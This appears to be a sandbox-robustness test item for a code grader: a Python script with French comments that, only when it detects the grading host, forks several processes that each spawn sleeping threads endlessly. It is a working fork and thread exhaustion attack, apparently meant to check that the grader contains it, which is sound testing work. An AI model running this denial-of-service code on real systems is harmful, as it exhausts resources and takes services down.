# ---
# why: lance des fils d'exécution sans fin dans plusieurs processus
# base: stub
# points: 0
# ---
# %% before="sigmoide"
import os
import socket

if socket.gethostname() != "salle-de-tp" or b"graders.judge.trunk" not in open("/proc/1/cmdline", "rb").read():
    raise SystemExit("ATTAQUE NON LANCÉE : hors du bac à sable")
print("ATTAQUE LANCÉE", flush=True)
LANCEE = True
import threading
import time

threading.stack_size(65536)
for _ in range(8):
    if os.fork() == 0:
        break
nombre = 0
while True:
    try:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        nombre += 1
    except (RuntimeError, MemoryError):
        time.sleep(0.01)
